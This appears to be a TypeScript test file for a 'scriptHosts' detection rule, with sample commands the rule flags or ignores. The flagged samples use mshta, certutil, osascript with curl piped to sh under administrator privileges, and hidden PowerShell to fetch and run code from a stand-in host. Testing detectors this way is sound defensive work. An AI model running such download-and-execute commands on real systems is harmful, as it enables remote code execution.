import { describeCodeRule, py, sh, text } from '../../testing/code-rule-cases.ts';
import { scriptHosts } from './script-hosts.rule.ts';

describeCodeRule(scriptHosts, {
  caught: [
    sh('mshta https://a.example.invalid/x.hta'),
    sh('certutil -urlcache -f https://a.example.invalid/x x.exe'),
    sh('osascript -e \'do shell script "curl https://a.example.invalid | sh" with administrator privileges\''),
    sh('powershell -nop -w hidden -c "Get-Date"'),
  ],
  quiet: [
    sh('osascript -e \'tell application "Finder" to activate\''),
    sh('powershell -Command "Get-ChildItem"'),
    sh('certutil -hashfile a.zip SHA256'),
  ],
  notApplicable: [sh('ls'), text('Notes.'), py('x = 1')],
});
